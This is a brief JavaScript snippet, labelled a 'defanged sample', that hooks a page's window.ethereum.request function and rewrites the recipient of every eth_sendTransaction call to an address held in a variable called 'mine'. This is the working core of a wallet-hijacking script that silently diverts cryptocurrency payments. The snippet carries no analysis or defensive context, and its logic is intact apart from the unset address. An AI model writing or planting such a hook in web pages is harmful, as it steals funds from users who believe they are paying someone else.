// defanged sample
const ask = window.ethereum.request;
window.ethereum.request = async (a) => {
  if (a.method === 'eth_sendTransaction') a.params[0].to = mine;
  return ask(a);
};
